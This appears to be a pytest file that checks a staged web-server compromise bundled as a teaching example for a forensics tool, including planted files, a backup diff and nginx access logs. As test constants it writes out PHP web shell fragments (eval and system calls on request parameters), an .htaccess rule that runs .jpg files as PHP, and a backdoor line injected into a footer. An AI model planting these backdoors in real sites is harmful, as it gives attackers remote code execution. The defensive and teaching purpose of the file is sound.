"""The bundled example incident (examples/incident/) tells the story its README tells.

These tests check the example itself, not webhunt: the files the story names are there (or gone) as
told, the backup differs from the live site exactly where the story says, the logs are valid nginx
``combined`` lines holding the requests the story names, and the committed logs and pictures are
what the generators produce.
"""

from __future__ import annotations

import gzip
import importlib.util
import re
import struct
import sys
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import datetime, timedelta, timezone
from pathlib import Path
from types import ModuleType

import pytest

EXAMPLE = Path(__file__).resolve().parents[1] / "examples" / "incident"
WWW = EXAMPLE / "www"
BACKUP = EXAMPLE / "backup"
LOGS = EXAMPLE / "logs"
README = EXAMPLE / "README.md"
LOG_FILES = ("access.log.2.gz", "access.log.1", "access.log")  # oldest first

ATTACKER = "203.0.113.77"
HELPER = "198.51.100.23"
OWNER = "198.51.100.140"
TZ = timezone(timedelta(hours=1))

# relpath -> a piece of its content that makes it malicious
PLANTED = {
    "uploads/2026/11/thumb.php": b"@eval($_REQUEST['pass']);",
    "uploads/2026/11/logo.jpg": b"system($_GET['c'])",
    "uploads/2026/11/.htaccess": b"AddType application/x-httpd-php .jpg",
}
FOOTER = "includes/footer.php"
FOOTER_INJECTION = "<?php @eval($_POST['pass']); ?>"
BENIGN_ADDED = {"uploads/2026/11/launch-party.jpg"}
BENIGN_MODIFIED = {"includes/posts.php"}
DELETED_SHELL = "uploads/2026/11/x.php"

COMBINED = re.compile(
    r"^(?P<ip>[0-9a-f.:]+) - (?P<user>\S+) "
    r"\[(?P<time>\d{2}/[A-Z][a-z]{2}/\d{4}:\d{2}:\d{2}:\d{2} [+-]\d{4})\] "
    r'"(?P<method>[A-Z]+) (?P<target>\S+) (?P<protocol>HTTP/[0-9.]+)" '
    r"(?P<status>\d{3}) (?P<size>\d+|-) "
    r'"(?P<referer>[^"]*)" "(?P<agent>[^"]*)"$'
)


@dataclass(frozen=True)
class Line:
    source: str
    number: int
    ip: str
    time: datetime
    method: str
    path: str
    query: str
    status: int
    size: int
    agent: str


def read_log(name: str) -> str:
    path = LOGS / name
    if name.endswith(".gz"):
        with gzip.open(path, "rt", encoding="utf-8") as fh:
            return fh.read()
    return path.read_text(encoding="utf-8")


def parse(name: str) -> Iterator[Line]:
    for number, text in enumerate(read_log(name).splitlines(), 1):
        m = COMBINED.match(text)
        assert m, f"{name}:{number}: not an nginx combined line: {text!r}"
        path, _, query = m["target"].partition("?")
        yield Line(
            source=name,
            number=number,
            ip=m["ip"],
            time=datetime.strptime(m["time"], "%d/%b/%Y:%H:%M:%S %z"),
            method=m["method"],
            path=path,
            query=query,
            status=int(m["status"]),
            size=int(m["size"]),
            agent=m["agent"],
        )


@pytest.fixture(scope="module")
def lines() -> list[Line]:
    return [line for name in LOG_FILES for line in parse(name)]


def files(root: Path) -> dict[str, bytes]:
    return {p.relative_to(root).as_posix(): p.read_bytes() for p in root.rglob("*") if p.is_file()}


def load(name: str) -> ModuleType:
    spec = importlib.util.spec_from_file_location(f"example_{name}", EXAMPLE / f"{name}.py")
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    sys.modules[spec.name] = module  # dataclasses look their module up while the class is built
    try:
        spec.loader.exec_module(module)
    finally:
        del sys.modules[spec.name]
    return module


def at(day: int, hms: str) -> datetime:
    h, m, s = (int(x) for x in hms.split(":"))
    return datetime(2026, 11, day, h, m, s, tzinfo=TZ)


# --- the files ---------------------------------------------------------------------------------


@pytest.mark.parametrize("relpath", sorted(PLANTED))
def test_planted_file_is_live_not_in_backup_and_named_in_readme(relpath: str) -> None:
    assert PLANTED[relpath] in (WWW / relpath).read_bytes()
    assert not (BACKUP / relpath).exists()
    assert f"`{relpath}`" in README.read_text(encoding="utf-8")


def test_footer_injection_is_one_inserted_line_absent_from_backup() -> None:
    live = (WWW / FOOTER).read_text(encoding="utf-8").splitlines()
    backup = (BACKUP / FOOTER).read_text(encoding="utf-8").splitlines()
    assert FOOTER_INJECTION not in "\n".join(backup)
    assert live.index(FOOTER_INJECTION) == 6  # line 7, as the README says
    assert live[:6] + live[7:] == backup
    readme = README.read_text(encoding="utf-8")
    assert f"`{FOOTER}`" in readme
    assert "inserted line 7" in readme


def test_backup_differs_from_live_site_exactly_where_the_story_says() -> None:
    live, backup = files(WWW), files(BACKUP)
    added = set(live) - set(backup)
    modified = {rel for rel in set(live) & set(backup) if live[rel] != backup[rel]}
    assert set(backup) <= set(live)  # nothing deleted from the web root
    assert added == set(PLANTED) | BENIGN_ADDED
    assert modified == {FOOTER} | BENIGN_MODIFIED


def test_deleted_shell_is_nowhere_on_disk() -> None:
    assert not (WWW / DELETED_SHELL).exists()
    assert not (BACKUP / DELETED_SHELL).exists()


def test_image_shell_is_a_valid_gif_with_php_inside() -> None:
    data = (WWW / "uploads/2026/11/logo.jpg").read_bytes()
    assert data.startswith(b"GIF89a")
    assert data.endswith(b"\x3b")
    width, height = struct.unpack("<HH", data[6:10])
    assert (width, height) == (1, 1)
    assert b"<?php" in data


def png_ok(data: bytes) -> tuple[int, int]:
    assert data.startswith(b"\x89PNG\r\n\x1a\n")
    pos, kinds, size = 8, [], (0, 0)
    idat = b""
    while pos < len(data):
        (length,) = struct.unpack(">I", data[pos : pos + 4])
        kind = data[pos + 4 : pos + 8]
        body = data[pos + 8 : pos + 8 + length]
        (crc,) = struct.unpack(">I", data[pos + 8 + length : pos + 12 + length])
        assert zlib.crc32(kind + body) == crc, f"bad CRC in {kind!r}"
        if kind == b"IHDR":
            size = struct.unpack(">II", body[:8])
        if kind == b"IDAT":
            idat += body
        kinds.append(kind)
        pos += 12 + length
    assert kinds[0] == b"IHDR" and kinds[-1] == b"IEND"
    zlib.decompress(idat)
    return size


def jpeg_ok(data: bytes) -> tuple[int, int]:
    assert data.startswith(b"\xff\xd8") and data.endswith(b"\xff\xd9")
    pos, size = 2, (0, 0)
    while True:
        assert data[pos] == 0xFF
        marker = data[pos + 1]
        (length,) = struct.unpack(">H", data[pos + 2 : pos + 4])
        if marker == 0xC0:
            height, width = struct.unpack(">HH", data[pos + 5 : pos + 9])
            size = (width, height)
        pos += 2 + length
        if marker == 0xDA:  # entropy-coded data follows up to EOI
            break
    assert size != (0, 0)
    return size


def test_benign_images_are_valid_pictures() -> None:
    checked = 0
    for tree in (WWW, BACKUP):
        for path in tree.rglob("*"):
            if path.name == "logo.jpg" and "uploads" in path.parts:
                continue  # the image shell, checked above
            if path.suffix == ".png":
                assert min(png_ok(path.read_bytes())) > 0, path
            elif path.suffix == ".jpg":
                assert min(jpeg_ok(path.read_bytes())) > 0, path
            elif path.suffix == ".ico":
                data = path.read_bytes()
                assert struct.unpack("<HHH", data[:6]) == (0, 1, 1), path
                png_ok(data[22:])
            else:
                continue
            checked += 1
    assert checked == 13  # 7 pictures in www/, 6 in backup/


def test_committed_images_are_what_make_images_writes() -> None:
    make_images = load("make_images")
    for rel, data in make_images.benign_images().items():
        assert (WWW / rel).read_bytes() == data, rel
        if rel not in make_images.NOT_IN_BACKUP:
            assert (BACKUP / rel).read_bytes() == data, rel
    assert (WWW / "uploads/2026/11/logo.jpg").read_bytes() == make_images.image_shell_gif()


# --- the logs ----------------------------------------------------------------------------------


def test_logs_parse_and_are_rotated_daily_in_order(lines: list[Line]) -> None:
    assert 500 <= len(lines) <= 5000
    days = {"access.log.2.gz": 24, "access.log.1": 25, "access.log": 26}
    for line in lines:
        assert line.time.utcoffset() == timedelta(hours=1)
        assert line.time.day == days[line.source], f"{line.source}:{line.number}"
    times = [line.time for line in lines]
    assert times == sorted(times)


def test_gz_rotation_is_a_real_gzip_file() -> None:
    raw = (LOGS / "access.log.2.gz").read_bytes()
    assert raw[:2] == b"\x1f\x8b"
    assert gzip.decompress(raw).decode("utf-8").count("\n") > 100


def test_committed_logs_are_what_make_logs_writes() -> None:
    built = load("make_logs").build()
    assert sorted(built) == sorted(LOG_FILES)
    for name, data in built.items():
        assert (LOGS / name).read_bytes() == data, name


def test_about_twenty_benign_clients_and_two_attackers(lines: list[Line]) -> None:
    ips = {line.ip for line in lines}
    assert {ATTACKER, HELPER, OWNER} <= ips
    assert 18 <= len(ips - {ATTACKER, HELPER}) <= 30


def test_every_successful_request_reaches_a_file_on_disk_except_the_deleted_shell(
    lines: list[Line],
) -> None:
    for line in lines:
        if line.status not in (200, 304):
            continue
        rel = line.path.lstrip("/")
        if rel == "" or rel.endswith("/"):
            rel += "index.php" if (WWW / rel / "index.php").exists() else "index.html"
        if rel == DELETED_SHELL:
            continue
        assert (WWW / rel).is_file(), f"{line.source}:{line.number}: {line.path}"
        if line.status == 200 and not rel.endswith(".php") and rel not in PLANTED:
            assert line.size == (WWW / rel).stat().st_size, f"{line.source}:{line.number}"


def find(lines: list[Line], ip: str, method: str, path: str, when: datetime) -> Line:
    hits = [x for x in lines if (x.ip, x.method, x.path, x.time) == (ip, method, path, when)]
    assert len(hits) == 1, f"{ip} {method} {path} at {when}: {len(hits)} lines"
    return hits[0]


def test_planting_requests_named_in_the_readme_are_in_the_logs(lines: list[Line]) -> None:
    readme = README.read_text(encoding="utf-8")
    planting = [
        ("03:21:30", "/admin/upload.php", "", 200, DELETED_SHELL),
        ("03:24:02", "/admin/upload.php", "", 200, "uploads/2026/11/thumb.php"),
        ("03:31:52", "/admin/upload.php", "", 200, "uploads/2026/11/.htaccess"),
        ("03:32:15", "/admin/upload.php", "", 200, "uploads/2026/11/logo.jpg"),
        ("03:35:10", "/admin/edit.php", "file=footer.php", 302, FOOTER),
    ]
    for hms, path, query, status, planted in planting:
        line = find(lines, ATTACKER, "POST", path, at(25, hms))
        assert (line.query, line.status) == (query, status)
        assert hms in readme
        # The planted file's first request (if it has its own URL) comes from the same IP, after.
        uses = [x for x in lines if x.path == "/" + planted]
        if uses and planted != "uploads/2026/11/.htaccess":
            assert uses[0].ip == ATTACKER and uses[0].time > line.time


def test_owner_requests_explain_the_benign_changes(lines: list[Line]) -> None:
    upload = find(lines, OWNER, "POST", "/admin/upload.php", at(24, "09:43:37"))
    edit = find(lines, OWNER, "POST", "/admin/edit.php", at(24, "09:47:30"))
    assert (upload.status, edit.query) == (200, "file=posts.php")
    first_party = next(x for x in lines if x.path == "/uploads/2026/11/launch-party.jpg")
    assert first_party.time > upload.time
    assert all(x.query != "id=4" or x.time >= edit.time for x in lines if x.path == "/post.php")


def test_shell_use_by_both_attackers_and_nobody_else(lines: list[Line]) -> None:
    shells = {"/uploads/2026/11/thumb.php", "/uploads/2026/11/logo.jpg", "/" + DELETED_SHELL}
    users = {x.ip for x in lines if x.path in shells}
    assert users == {ATTACKER, HELPER}
    thumb = [x for x in lines if x.path == "/uploads/2026/11/thumb.php"]
    assert len(thumb) == 27
    assert {x.ip for x in thumb if x.method == "POST"} == {ATTACKER, HELPER}
    assert any("z0=" in x.query for x in thumb)
    logo = [x for x in lines if x.path == "/uploads/2026/11/logo.jpg"]
    assert len(logo) == 4 and all(x.query.startswith("c=") for x in logo)
    # Only the two attackers POST to pages that include the backdoored footer.
    page_posts = {x.ip for x in lines if x.method == "POST" and x.path in ("/index.php", "/about.php")}
    assert page_posts == {ATTACKER, HELPER}


def test_deleted_shell_answered_200_then_404(lines: list[Line]) -> None:
    hits = [x for x in lines if x.path == "/" + DELETED_SHELL]
    ok = [x for x in hits if x.status == 200]
    gone = [x for x in hits if x.status == 404]
    assert len(ok) == 4 and {x.ip for x in ok} == {ATTACKER}
    assert {x.ip for x in gone} == {ATTACKER, HELPER}
    assert max(x.time for x in ok) < min(x.time for x in gone)


def test_recon_and_brute_force_come_first(lines: list[Line]) -> None:
    attacker = [x for x in lines if x.ip == ATTACKER]
    assert len(attacker) == 138
    recon = [x for x in attacker if "Nikto" in x.agent]
    assert len(recon) == 37
    assert {"/wp-login.php", "/.env", "/phpmyadmin/"} <= {x.path for x in recon}
    guesses = [x for x in attacker if x.method == "POST" and x.path == "/admin/login.php"]
    assert [x.status for x in guesses].count(200) == 57
    first_upload = min(x.time for x in attacker if x.path == "/admin/upload.php" and x.method == "POST")
    assert max(x.time for x in recon) < min(x.time for x in guesses) < first_upload
    assert len([x for x in lines if x.ip == HELPER]) == 21
